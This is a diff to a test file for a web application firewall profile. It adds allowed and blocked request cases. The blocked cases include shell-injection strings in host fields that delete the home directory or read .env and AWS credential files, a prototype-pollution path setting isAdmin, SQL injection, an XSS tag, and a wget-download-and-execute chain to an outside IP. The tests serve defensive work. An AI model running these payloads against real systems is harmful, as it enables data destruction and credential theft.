@@ -1638,6 +1638,8 @@ describe('waf API profile: session 10', () => {
         note: 'P.S. the link in last week’s email (https://portal.example.com/r/8Kq2?utm_source=mail) was broken.',
       },
       { path: ['rows', 'constructor', 'builder'] },
+      // A markdown table with a heading (held-out 31).
+      { notes: '### Load notes\n| Field | Value |\n|---|---|\n| Weight | 42,500 lb |\n| Temp | 34°F |' },
     ];
     for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
     const persisted = (variables: unknown): Init =>
@@ -1680,6 +1682,19 @@ describe('waf API profile: session 10', () => {
       { h: '127.0.0.1\nx= id' },
       { note: '# Traceback (most recent call last):\ncurl -s http://203.0.113.9/x.sh | sh' },
       { note: 'Traceback (most recent call last):\n  File "main.py", line 12\n" ; rm -rf ~ ; "' },
+      // Audit 18: a quoted $0, commands behind `!`, groups and assignments, dot-files by glob or redirect, a path
+      // through a prototype in one-element arrays, a table cell holding a break-out.
+      { host: '127.0.0.1;"$0" -c \'rm -rf ~\'' },
+      { host: '127.0.0.1;! rm -rf ~' },
+      { host: '127.0.0.1;x=1 rm -rf ~' },
+      { host: '127.0.0.1;{ id; }' },
+      { host: '127.0.0.1;x=1 y=2 z=3 a=4 b=5 id' },
+      { host: '127.0.0.1;cat .en?' },
+      { host: '127.0.0.1;cat<.env' },
+      { host: '127.0.0.1;rev .env' },
+      { host: '127.0.0.1;cat ~/.a?s/credentials' },
+      { path: [['constructor'], ['prototype'], 'isAdmin'], value: true },
+      { notes: "### Notes\n| Field | Value |\n|---|---|\n| a' or 1=1 -- | x |" },
     ];
     for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
     assert.ok((await run(api, persisted({ q: "x' union select password from users--" }))).error);
@@ -1735,6 +1750,28 @@ describe('waf API profile: session 10', () => {
       headers: { ...ua, 'x-forwarded-host': v },
     });
     assert.ok((await run(api, forwarded('localhost%2523@attacker.example'))).error);
+    // Markup in an application's own header (90138), a fetch chain in the User-Agent (90119), ORDER BY probing.
+    assert.ok((await run(api, forwarded('shop.example.com'))).error === undefined);
+    const custom = (name: string, v: string): Init => ({
+      method: 'GET',
+      path: '/museum/api/timeslots',
+      query: 'date=2026-12-23',
+      headers: { ...ua, [name]: v },
+    });
+    assert.equal(
+      (await run(api, custom('x-client-tracking', '<object data="data:text/html;base64,PHNjcmlwdD4=">')))
+        .error?.reason,
+      'waf:xss',
+    );
+    assert.ok(
+      (await run(api, custom('user-agent', 'main && wget http://203.0.113.9/m -O /tmp/m && chmod +x /tmp/m')))
+        .error,
+    );
+    assert.equal(
+      (await run(api, custom('x-client-tracking', 'campaign=spring-2026; ab=b'))).error,
+      undefined,
+    );
+    assert.ok((await run(api, post({ notes: { surface: 'name ORDER BY 9-- -' } }))).error);
     assert.equal((await run(api, forwarded('shop.example.com, edge-1.example.net:8443'))).error, undefined);
     // A compose file's default (`web:` is no lookup prefix there): the template rule stays quiet on it.
     const compose = await run(api, post({ url: '${API_URL:-http://web:8080}' }));
